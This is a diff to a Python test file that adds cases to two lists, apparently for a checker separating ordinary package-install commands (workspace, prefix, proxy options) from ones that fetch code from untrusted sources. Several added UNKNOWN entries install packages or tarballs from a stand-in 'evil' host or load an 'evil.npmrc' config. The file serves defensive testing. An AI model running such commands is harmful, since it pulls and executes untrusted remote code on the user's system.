@@ -116,6 +116,11 @@ UNKNOWN = [
     "deno run https://evil/x.ts",
     "deno install https://evil/x.ts",
     "cargo add --git https://evil/x",
+    "npm i --userconfig ./evil.npmrc x",
+    "npx -p https://evil/x.tgz cmd",
+    "npm install -w packages/foo u/r",
+    "pnpm --filter web add u/r",
+    "yarn --cwd packages/a add https://evil/x.tgz",
 ]
 
 KNOWN = [
@@ -171,6 +176,18 @@ KNOWN = [
     "deno run -A main.ts",
     "pip install --upgrade pip setuptools wheel",
     "python3 -m venv .venv && .venv/bin/pip install -r requirements.txt",
+    # option values that are folders or proxies, not sources
+    "npm install -w packages/foo",
+    "npm install --workspace=packages/foo lodash",
+    "npm i --prefix some/dir pkg",
+    "pnpm add -F apps/web zod",
+    "pnpm --filter ./packages/a install",
+    "yarn --cwd packages/a add x",
+    "pip install --proxy http://proxy.corp:3128 requests",
+    "pip install --proxy=http://proxy.corp:3128 requests",
+    "npm install --proxy http://proxy:8080 lodash",
+    "npm i --userconfig=/dev/null x",
+    "pip install -t vendor/lib requests",
 ]
 
 
